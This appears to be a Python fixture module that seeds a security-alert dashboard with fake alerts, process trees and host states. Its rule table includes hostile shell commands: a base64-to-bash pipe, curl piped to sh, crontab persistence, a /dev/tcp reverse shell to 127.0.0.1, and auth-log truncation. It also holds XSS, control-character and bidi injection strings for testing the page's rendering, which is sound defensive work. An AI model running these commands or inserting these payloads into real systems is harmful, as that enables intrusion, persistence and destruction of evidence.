"""What the fixture server tells the page: fifty alerts, their stories, a few hosts; some texts are hostile."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from typing import Any

Json = dict[str, Any]

NOW = datetime.now(UTC)
"""The moment that all times of the seed are counted back from."""

LEVELS = ("critical", "high", "medium", "low", "informational")

RULES = (
    (
        "Encoded text run by a shell",
        "Giải mã base64 rồi chạy bằng shell",
        "attack.t1059.004",
        'bash -c "echo aWQ7IHdob2FtaQ== | base64 -d | bash"',
    ),
    (
        "Download piped into a shell",
        "Tải tập lệnh về và chạy thẳng qua ống",
        "attack.t1105",
        "curl -fsSL http://127.0.0.1:8099/setup.sh | sh",
    ),
    (
        "Scheduled job added by crontab",
        "Thêm tác vụ định kỳ bằng crontab",
        "attack.t1053.003",
        "crontab -l; echo '*/5 * * * * /tmp/.x/run' | crontab -",
    ),
    ("Reverse shell over /dev/tcp", "", "attack.t1059.004", "bash -i >& /dev/tcp/127.0.0.1/4444 0>&1"),
    (
        "Program run from memory (memfd)",
        "Tệp chạy từ bộ nhớ (memfd)",
        "attack.t1620",
        "/memfd:kworker (deleted) --daemon",
    ),
    ("System log cleared", "Xoá nhật ký hệ thống", "attack.t1070.002", "truncate -s 0 /var/log/auth.log"),
)
"""Title, the same in Vietnamese (one rule has none), tag, command."""

HOSTILE = (
    "<img src=x onerror=alert(1)><script>document.title='owned'</script>",
    "\x1b[2J\x1b[31mroot\x1b[0m\x07 \x00 ends",
    "invoice\u202efdp.exe \u2066hidden\u2069 z\u200bw \U000e0041tag",
    "javascript:alert(1)//\u00a0'\"><svg/onload=alert(2)>{{7*7}}${7*7}",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031ealgo \ufeff \u2028 line",
)
"""Texts that a host may send: markup, ANSI and NUL, bidi and invisible characters, templates, piled-up marks."""

HOSTS = ("hn-ketoan-0142", "hp-khach-0031", "dn-vattu-0210", "hcm-nhansu-0007")


LISTED = {"source": "nhnc.csv", "note": "C2 of a campaign against ministries"}
"""What the condition of an indicator says of its list."""


def text_of(moment: datetime) -> str:
    """Write a time as the collector does: RFC 3339 in UTC with nine decimals."""
    return moment.strftime("%Y-%m-%dT%H:%M:%S.%f") + "000Z"


def host_id(index: int) -> str:
    """Give the id of a host, 32 hexadecimal digits."""
    return f"{index + 0xA1:032x}"


def alert(number: int, *, age: timedelta | None = None) -> Json:
    """Make one row of the queue; every fifth has hostile texts."""
    title, title_vi, tag, command = RULES[number % len(RULES)]
    host = number % len(HOSTS)
    hostile = HOSTILE[number // 5 % len(HOSTILE)] if number % 5 == 4 else ""
    moment = NOW - (timedelta(minutes=7 * number, seconds=13) if age is None else age)
    return {
        "id": f"{number:032x}",
        "title": title,
        "title_vi": title_vi,
        "level": LEVELS[number % 7 if number % 7 < len(LEVELS) else 1],
        "rule": f"7d1f0000-0000-4000-8000-{number % len(RULES):012d}",
        "host": host_id(host),
        "hostname": hostile or HOSTS[host],
        "user": hostile or ("root" if number % 3 else "nguyen.van.an"),
        "time": text_of(moment - timedelta(milliseconds=420)),
        "created": text_of(moment),
        "status": "open",
        "verdict": None,
        "tags": ["attack.execution", tag],
        "summary": hostile or command,
        "version": 1,
    }


def detail(row: Json, notes: list[Json], history: list[Json]) -> Json:
    """Make the story of a row."""
    command = row["summary"]
    spans = [[0, min(4, len(command))], [max(0, len(command) - 6), len(command)]]
    executable = row["hostname"] if row["hostname"] in HOSTILE else "/usr/bin/bash"
    return {
        **row,
        "rule": {
            "id": row["rule"],
            "title": row["title"],
            "title_vi": row["title_vi"],
            "level": row["level"],
            "description": "A command hidden in base64 is handed to a shell.\nAdministrators rarely do that.",
            "description_vi": "Một lệnh giấu bằng base64 được đưa thẳng cho shell.\nNgười quản trị hiếm khi làm vậy.",
            "triage": ["Decode the text by hand and read it", "Look at what the shell started"],
            "tags": row["tags"],
            "falsepositives": ["The vendor's installer", "Old deployment scripts"],
            "falsepositives_vi": ["Trình cài đặt của nhà cung cấp", "Kịch bản triển khai cũ"],
            "references": ["https://attack.mitre.org/techniques/T1059/004/", "javascript:alert(3)"],
            "version": "5f2c",
        },
        "why": [
            _why("selection_img", "Image", executable, "*/bash", [[len(executable) - 4, len(executable)]]),
            _why("selection_cli", "CommandLine", command, "*base64*", spans),
            _why("emoji", "CommandLine", "echo 😀😀 | base64 -d | sh", "*base64 -d*", [[10, 19]]),
            {**_why("nhnc.csv", "CommandLine", command, command, spans), **LISTED},
            {**_why("filter_installer", "ParentImage", "/usr/bin/apt", "*/dpkg", []), "negated": True},
            {**_why("filter_ci", "User", row["user"], "gitlab-runner", []), "negated": True},
        ],
        "events": [_event(row, command, executable)],
        "notes": notes,
        "history": [{"by": "", "time": row["created"], "action": "raised", "verdict": None}, *history],
        "latency_ms": 420,
    }


def _why(selection: str, field: str, value: str, pattern: str, spans: list[list[int]]) -> Json:
    return {
        "selection": selection, "field": field, "value": value, "pattern": pattern, "spans": spans, "negated": False,
    }  # fmt: skip


def _event(row: Json, command: str, executable: str) -> Json:
    return {
        "id": {"host": row["host"], "epoch": "5f3a9c01d2e4b687", "lane": 1, "sequence": 4711},
        "kind": "process_start",
        "time": row["time"],
        "received": row["created"],
        "fields": {
            "process.command_line": command,
            "process.executable": executable,
            "process.entity_id": "1a2b3c4d5e6f",
            "process.pid": 4120,
            "process.args_count": 3,
            "process.working_directory": "/home/an",
            "process.hash.sha256": "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
            "process.parent.executable": "/usr/bin/python3.11",
            "process.parent.command_line": "python3 hoa_don.py",
            "user.name": row["user"],
            "host.boot.id": "b6b1e8f2-7f4f-4f65-a7a5-cf4a0d6f0d11",
            "event.provider": "ebpf",
            "tramgac.process.fileless": False,
        },
    }


def tree(row: Json) -> list[Json]:
    """Make the processes around a row: a chain down to the one that fired, and a crowd that does not matter."""
    chain = (
        ("/usr/lib/systemd/systemd", "/sbin/init", False),
        ("/usr/sbin/sshd", "sshd: nguyen.van.an [priv]", False),
        ("/usr/bin/bash", "-bash", False),
        ("/usr/bin/python3.11", "python3 hoa_don.py", False),
        ("/usr/bin/bash", row["summary"], True),
        ("/usr/bin/base64", "base64 -d", False),
    )
    nodes = [
        _node(row, f"c{index}", f"c{index - 1}" if index else None, 1 + index * 411, *each)
        for index, each in enumerate(chain)
    ]
    crowd = [_node(row, f"x{index}", "c0", 900 + index, "/usr/sbin/cron", "cron -f", False) for index in range(24)]
    loop = [_node(row, "l0", "l1", 7001, "/bin/a", "a", False), _node(row, "l1", "l0", 7002, "/bin/b", "b", False)]
    return [*nodes, *crowd, *loop]


def _node(row: Json, entity: str, parent: str | None, pid: int, executable: str, command: str, fired: bool) -> Json:
    return {
        "entity_id": entity, "parent": parent, "pid": pid, "executable": executable, "command_line": command,
        "user": row["user"], "time": row["time"], "alert": fired,
    }  # fmt: skip


def hosts() -> list[Json]:
    """Make the hosts: a healthy one, a blind one with gaps, a silent one with a wrong clock, a hostile one."""
    healthy = _host(0, HOSTS[0], "Debian GNU/Linux 12 (bookworm)")
    blind = _host(1, HOSTS[1], "Ubuntu 24.04.3 LTS")
    blind["sensors"] = [
        {
            "capability": "process",
            "rung": "poll",
            "state": "blind",
            "why": "ebpf: libbpf.so.1 is missing; apt install libbpf1",
        },
        {
            "capability": "file",
            "rung": "",
            "state": "absent",
            "why": "fanotify: needs root\nwatch: no folder is listed",
        },
        {"capability": "network", "rung": "poll", "state": "alive", "why": "ebpf: libbpf.so.1 is missing"},
    ]
    blind["completeness"] = {
        "emitted": 10_000, "acked": 9_000, "spooled": 200, "dropped": {"spool_full": 800}, "missed": {"ring_full": 31},
        "gaps": [{"epoch": "5f3a9c01d2e4b687", "lane": 3, "first": 812, "count": 800, "reason": "spool_full",
                  "noticed": text_of(NOW)}], "gaps_total": 1,
    }  # fmt: skip
    silent = _host(2, HOSTS[2], "Debian GNU/Linux 12 (bookworm)")
    silent |= {
        "connected": False, "skew_ms": -3_720_000, "last_seen": text_of(NOW - timedelta(hours=9)),
        "last_words": "stopped by signal SIGTERM", "content_refused": 7, "content_reason": "expired",
        "parked": {"total": 1, "rules": [{"rule": f"7d1f{0:028}", "since": text_of(NOW - timedelta(hours=10)),
                                          "reason": "over its budget: 31.5 µs an event, 25 are allowed"}]},
        "findings": [{"kind": "clock_off", "count": 3,
                      "detail": "this host's clock is 3720 s ahead of the collector's; the times of its events are "
                                "corrected, but set it (timedatectl set-ntp true)",
                      "first": text_of(NOW - timedelta(days=1)), "last": text_of(NOW - timedelta(hours=9))}],
    }  # fmt: skip
    hostile = _host(3, HOSTILE[2], HOSTILE[0])
    return [healthy, blind, silent, hostile]


def _host(index: int, name: str, system: str) -> Json:
    return {
        "id": host_id(index), "name": name, "os": "linux", "os_name": system, "agent_version": "0.1.0",
        "site": "Hà Nội", "active": True, "connected": True, "address": f"10.20.{index}.15",
        "enrolled": text_of(NOW - timedelta(days=30)), "last_seen": text_of(NOW - timedelta(seconds=5)),
        "last_words": "", "skew_ms": 12,
        "sensors": [
            {"capability": "process", "rung": "ebpf", "state": "alive", "why": ""},
            {"capability": "file", "rung": "fanotify", "state": "alive", "why": ""},
            {"capability": "network", "rung": "ebpf", "state": "alive", "why": ""},
        ],
        "completeness": {"emitted": 184_220, "acked": 184_200, "spooled": 20, "dropped": {}, "missed": {},
                         "gaps": [], "gaps_total": 0},
        "bundle": 8, "content_refused": None, "content_reason": "", "findings": [],
    }  # fmt: skip
